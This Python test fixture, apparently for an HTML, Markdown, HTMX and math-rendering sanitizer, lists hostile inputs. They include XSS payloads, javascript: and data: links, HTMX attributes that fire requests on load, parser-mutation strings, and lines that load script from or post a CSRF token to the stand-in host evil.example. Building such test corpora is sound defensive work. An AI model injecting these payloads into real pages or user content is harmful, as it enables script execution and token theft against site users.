"""Hostile texts, written for these tests: each tries to become something other than words."""

SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert`1`'>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<base href='https://evil.example/'><link rel=stylesheet href=x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><button name=csrfmiddlewaretoken>Save</button></form>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example)'>x</p>",
    "<body onload=alert(1)><video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<div id=status-line name=content class='btn btn--primary'>x</div>",
]

HTMX = [
    "<div hx-get='/account/logout/' hx-trigger='load'>x</div>",
    "<b data-hx-post='/x' data-hx-trigger='revealed'>x</b>",
    "<i hx-on::after-request='alert(1)'>x</i>",
    "<span hx-swap-oob='true' id='messages'>x</span>",
    "</div></div><button hx-delete='/x'>Save</button>",
    "*emphasis*{hx-get=/x}",
]

MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example)",
    '[x](https://good.example" onmouseover="alert(1))',
    "[x](https://good.example '\" onmouseover=\"alert(1)')",
    "[<img src=x onerror=alert(1)>](https://good.example)",
    "![x](https://evil.example/pixel.png)",
    '!["><script>alert(1)</script>](https://evil.example)',
    "![![![x](https://a.example)](https://b.example)](https://c.example)",
    '[x][1]\n\n[1]: javascript:alert(1) "title"',
    "[//]: # (a comment that nobody sees)",
    "<javascript:alert(1)>",
    '<https://evil.example/"onclick="alert(1)>',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "```python \"><img src=x onerror=alert(1)>\nprint('<b>')\n```",
    "~~~ <script>\n~~~",
    "    <script>alert(1)</script>",
    "| <script> | b |\n|:-:|--:|\n| <img src=x onerror=alert(1)> | `</td><script>` |",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "# <a name=content></a>\n## x\n",
    "<!-- <p> --> <![CDATA[ <script>alert(1)</script> ]]> <?php x ?>",
    "-\n  > 1. ```\n     <script>",
]

MUTATIONS = [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
]

MATHEMATICS = [
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\text{</mtext></math><script>alert(1)</script>}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\class{btn}{x}$ $\style{position:fixed}{x}$ $\cssId{content}{x}$",
    r"$$\color{red\" onload=alert(1)}{x}$$",
    r"\[ \mathrm{<mglyph><style>} \] \( \unicode{60} \)",
    r"$\mbox{&lt;script&gt;}$ $\operatorname{<script>}$ $\require{html}x$",
    "$" + r"\frac{" * 60 + "$",
    "$x_{" * 40 + "}" * 40 + "$",
]

ALL = [*SCRIPTS, *HTMX, *MARKDOWN, *MUTATIONS, *MATHEMATICS]
